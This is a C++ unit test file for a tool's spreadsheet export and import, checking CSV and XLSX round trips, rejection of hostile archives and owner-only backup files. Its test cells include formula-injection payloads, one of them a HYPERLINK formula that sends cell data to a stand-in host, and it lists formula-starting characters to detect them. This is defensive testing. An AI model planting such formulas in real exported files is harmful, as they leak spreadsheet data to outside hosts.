// SPDX-License-Identifier: GPL-3.0-or-later
// Sheets as files: cells through write and read in every form, workbooks
// other programs made, hostile archives, files only their owner may read.
#include "site/FenwaPlan.h"
#include "site/FenwaSheet.h"
#include "site/FenwaXlsx.h"

#include <gtest/gtest.h>

#include <QFile>
#include <QTemporaryDir>
#include <sys/stat.h>

namespace {

QByteArray fixture(const char *name)
{
    QFile f(QStringLiteral(FENWA_SITE_DATA "/") + QLatin1String(name));
    return f.open(QIODevice::ReadOnly) ? f.readAll() : QByteArray();
}

// Texts a terminal or a planner may put in a cell.
const QStringList kCells = {
    "=1+1", "=HYPERLINK(\"http://x.invalid/\"&A2,\"click\")", "+1", "-2", "@SUM(A1)", "\tx", "\rx", "'=x", "''+y", "'plain",
    "0801", "02:fe:00:00:00:01", "12345678901234567890", QString::fromUtf8("大厅A"), "a \"quoted\" b", "line\nbreak",
    "a;b,c", " edge ", "_x0041_", "x\001y", QString(),
};

// Comma and semicolon CSV, and a workbook.
TEST(SheetRoundTrip, EveryCellReadsBackAsWritten)
{
    // One column per text, a second row of the same, and a column empty in
    // every row.
    QStringList header;
    for (int i = 0; i < kCells.size(); ++i)
        header << QStringLiteral("c%1").arg(i);
    header << QStringLiteral("empty") << QStringLiteral("last");
    const QList<QStringList> rows{header, kCells + QStringList{QString(), QStringLiteral("z")},
                                  kCells + QStringList{QString(), QStringLiteral("z")}};
    for (const auto &f : {std::make_pair(false, ','), std::make_pair(false, ';'), std::make_pair(true, ',')}) {
        FenwaSheet::Form form;
        form.workbook = f.first;
        form.separator = f.second;
        SCOPED_TRACE(form.workbook ? "workbook" : form.separator == ',' ? "comma" : "semicolon");
        QByteArray bytes;
        QString error;
        ASSERT_TRUE(FenwaSheet::bytes(rows, form, &bytes, &error)) << error.toStdString();
        QList<FenwaCsv::Record> read;
        FenwaSheet::Form found;
        ASSERT_TRUE(FenwaSheet::read(bytes, &read, &found, &error)) << error.toStdString();
        EXPECT_EQ(found.workbook, form.workbook);
        ASSERT_EQ(read.size(), rows.size());
        for (int r = 0; r < rows.size(); ++r)
            for (int c = 0; c < rows[r].size(); ++c)
                EXPECT_EQ(read[r].fields.value(c).toStdString(), rows[r][c].toStdString()) << "row " << r << " column " << c;
        if (form.workbook)
            continue;
        EXPECT_EQ(found.separator, form.separator);
        EXPECT_TRUE(found.bom && bytes.startsWith(FenwaCsv::BOM));
        // No field a spreadsheet reads starts a formula.
        for (const QByteArray &line : bytes.mid(3).split('\n'))
            for (const QByteArray &field : line.split(form.separator))
                for (const char *start : {"=", "+", "-", "@", "\"=", "\"+", "\"-", "\"@", "\"\t", "\t"})
                    EXPECT_FALSE(field.startsWith(start)) << field.constData();
    }
}

TEST(Csv, FieldsQuotedOnlyWhereAReaderWouldMisreadThem)
{
    const struct {
        const char *value;
        char separator;
        const char *written;
    } cases[] = {
        {"ab", ',', "ab"},           {" ab", ',', "\" ab\""},      {"ab ", ',', "\"ab \""},
        {"a,b", ',', "\"a,b\""},     {"a,b", ';', "a,b"},          {"a;b", ';', "\"a;b\""},
        {"\"a", ',', "\"\"\"a\""},   {"a\"", ',', "\"a\"\"\""},    {"a\nb", ',', "\"a\nb\""},
        {"=a", ',', "'=a"},          {"-1", ';', "'-1"},           {"=a,b", ',', "\"'=a,b\""},
        {"'@x", ',', "''@x"},        {"'x", ',', "'x"},            {"", ',', ""},
    };
    for (const auto &c : cases)
        EXPECT_EQ(FenwaCsv::field(QString::fromUtf8(c.value), c.separator).toStdString(), c.written) << c.value;
}

// What XML cannot hold goes into a workbook escaped and comes back whole.
TEST(Workbook, TextsXmlCannotHold)
{
    const QString texts[] = {QString(QChar(0xfffe)) + QStringLiteral("a"), QString(QChar(0xd800)) + QStringLiteral("x"),
                             QStringLiteral("a\r\nb"), QStringLiteral("_x005F_")};
    QList<QStringList> rows{{QStringLiteral("h")}};
    for (const QString &t : texts)
        rows << QStringList{t};
    QByteArray bytes;
    QList<FenwaCsv::Record> back;
    QString error;
    ASSERT_TRUE(FenwaXlsx::write(rows, &bytes, &error) && FenwaXlsx::read(bytes, &back, &error)) << error.toStdString();
    ASSERT_EQ(back.size(), rows.size());
    for (int i = 0; i < rows.size(); ++i)
        EXPECT_EQ(back[i].fields, rows[i]) << i;
}

TEST(Workbook, FilesOtherProgramsWrote)
{
    const QStringList openpyxl = {QString::fromUtf8("1:mac|name|sip1_account|mic_volume|web_account#"),
                                  QString::fromUtf8("2:02:fe:00:00:00:01|大厅 A|0801|60|admin#"),
                                  QStringLiteral("3:02:fe:00:00:00:02||802|070|TRUE#1"),
                                  QStringLiteral("5:02:fe:00:00:00:03||||x#1")};
    const struct {
        const char *file;
        QStringList rows; // row number: fields joined by '|', notes by column after '#'
    } cases[] = {
        {"openpyxl.xlsx", openpyxl},
        {"reordered.xlsx", openpyxl}, // the first sheet is the part sheet2.xml
        {"libreoffice.xlsx",
         {QStringLiteral("1:mac|name|sip1_account|mic_volume|dns2#"),
          QStringLiteral("2:02:fe:00:00:00:01|Hall \"A\", east|0801|60#"),
          // LibreOffice keeps a boolean as the number 1 in a boolean format.
          QStringLiteral("3:02:fe:00:00:00:02|Gate B|802|60|1#1,3")}},
    };
    for (const auto &c : cases) {
        QList<FenwaCsv::Record> records;
        QString error;
        ASSERT_TRUE(FenwaXlsx::read(fixture(c.file), &records, &error)) << c.file << ": " << error.toStdString();
        QStringList got;
        for (const FenwaCsv::Record &r : records) {
            QStringList noted;
            for (int k : r.notes.keys())
                noted << QString::number(k);
            std::sort(noted.begin(), noted.end());
            got << QStringLiteral("%1:%2#%3").arg(r.line).arg(r.fields.join(QLatin1Char('|')), noted.join(QLatin1Char(',')));
        }
        EXPECT_EQ(got.join(QLatin1Char('\n')).toStdString(), c.rows.join(QLatin1Char('\n')).toStdString()) << c.file;
    }
}

TEST(Workbook, HostileArchivesAreRefused)
{
    QByteArray notZip = "PK\x03\x04 and then nothing";
    QByteArray truncated = fixture("libreoffice.xlsx");
    truncated.chop(200);
    QStringList cells;
    while (cells.size() <= FenwaXlsx::MAX_COLUMNS)
        cells << QStringLiteral("x");
    QByteArray wide;
    QString made;
    EXPECT_TRUE(FenwaXlsx::write({cells}, &wide, &made)) << made.toStdString();
    QByteArray widest;
    while (cells.size() <= 16384) // a sheet's last column
        cells << QStringLiteral("x");
    EXPECT_FALSE(FenwaXlsx::write({cells}, &widest, &made));
    EXPECT_TRUE(made.startsWith(QLatin1String("the workbook cannot be made: "))) << made.toStdString();
    const QByteArray tmp = qgetenv("TMPDIR");
    qputenv("TMPDIR", "/dev/null"); // not a folder
    EXPECT_FALSE(FenwaXlsx::write({{QStringLiteral("x")}}, &widest, &made));
    EXPECT_TRUE(made.startsWith(QLatin1String("no room for a temporary file"))) << made.toStdString();
    tmp.isNull() ? qunsetenv("TMPDIR") : qputenv("TMPDIR", tmp);
    const struct {
        const char *name;
        QByteArray bytes;
        const char *error;
    } cases[] = {
        {"a part over the cap", fixture("bomb.xlsx"), "would unpack to more than 64 MiB"},
        {"a part longer than stated", fixture("lying.xlsx"), "damaged"},
        {"a part shorter than stated", fixture("short.xlsx"), "damaged"},
        {"a cell in another row", fixture("misnamed.xlsx"), "row 1: a cell named \"B7\""},
        {"a row numbered 0", fixture("rowzero.xlsx"), "a row numbered \"0\""},
        {"not an archive", notZip, "not a workbook"},
        {"cut short", truncated, "not a workbook"},
        {"a column too many", wide, "a value beyond column 256"},
    };
    for (const auto &c : cases) {
        ASSERT_FALSE(c.bytes.isEmpty()) << c.name;
        QList<FenwaCsv::Record> records;
        QString error;
        EXPECT_FALSE(FenwaXlsx::read(c.bytes, &records, &error)) << c.name;
        EXPECT_TRUE(error.contains(QLatin1String(c.error))) << c.name << ": " << error.toStdString();
    }
}

TEST(SheetFile, BackupsAndResultsAreTheOwnersAlone)
{
    QTemporaryDir dir;
    const mode_t was = umask(022);
    const QString fresh = dir.filePath(QStringLiteral("fresh.json")), old = dir.filePath(QStringLiteral("old.csv")),
                  open = dir.filePath(QStringLiteral("export.csv"));
    QFile existing(old);
    ASSERT_TRUE(existing.open(QIODevice::WriteOnly) && existing.write("old") == 3);
    existing.close();
    ASSERT_TRUE(existing.setPermissions(QFileDevice::ReadOwner | QFileDevice::WriteOwner | QFileDevice::ReadGroup
                                        | QFileDevice::ReadOther));
    QString error;
    for (const QString &path : {fresh, old})
        ASSERT_TRUE(FenwaSheet::writeFile(path, "secret", true, &error)) << error.toStdString();
    ASSERT_TRUE(FenwaSheet::writeFile(open, "terminals", false, &error));
    umask(was);
    struct stat st;
    for (const QString &path : {fresh, old}) {
        ASSERT_EQ(stat(QFile::encodeName(path).constData(), &st), 0);
        EXPECT_EQ(st.st_mode & 0777, 0600u) << path.toStdString();
    }
    ASSERT_EQ(stat(QFile::encodeName(open).constData(), &st), 0);
    EXPECT_EQ(st.st_mode & 0777, 0644u);
    EXPECT_FALSE(FenwaSheet::writeFile(dir.filePath(QStringLiteral("no/such/dir/x")), "x", true, &error));
    EXPECT_TRUE(error.contains(QLatin1String("no/such/dir"))) << error.toStdString();
}

TEST(ResultSheet, KeepsThePlansFormAndEveryColumn)
{
    using namespace FenwaPlan;
    const struct {
        const char *name;
        QByteArray plan;
        QByteArray result; // the CSV written (after the byte order mark, if any)
        bool bom;
    } cases[] = {
        {"semicolonsBomEmptyColumnOrder",
         "\xEF\xBB\xBF" "name;mac;dns2;sip1_account\r\nHall;02:fe:00:00:00:01;;0801\r\n=x;02:fe:00:00:00:02;;\r\n",
         "name;mac;dns2;sip1_account;outcome\r\nHall;02:fe:00:00:00:01;;0801;done\r\n'=x;02:fe:00:00:00:02;;;failed: x\r\n",
         true},
        {"outcomeColumnKeptInPlace", "mac,outcome,name\n02:fe:00:00:00:01,failed: old,A\n02:fe:00:00:00:02,,B\n",
         "mac,outcome,name\r\n02:fe:00:00:00:01,done,A\r\n02:fe:00:00:00:02,failed: x,B\r\n", false},
    };
    for (const auto &c : cases) {
        Plan plan;
        QString error;
        ASSERT_TRUE(read(c.plan, &plan, &error)) << c.name << ": " << error.toStdString();
        const QByteArray out = resultSheet(plan, {QStringLiteral("done"), QStringLiteral("failed: x")});
        EXPECT_EQ(out.startsWith(FenwaCsv::BOM), c.bom) << c.name;
        EXPECT_EQ(out.mid(c.bom ? 3 : 0).toStdString(), std::string(c.result)) << c.name;
        // Read again, the plan is the same plan.
        Plan again;
        ASSERT_TRUE(read(out, &again, &error)) << error.toStdString();
        ASSERT_EQ(again.rows.size(), plan.rows.size());
        for (int i = 0; i < plan.rows.size(); ++i)
            EXPECT_EQ(again.rows[i].values, plan.rows[i].values) << c.name << " row " << i;
    }
}

} // namespace
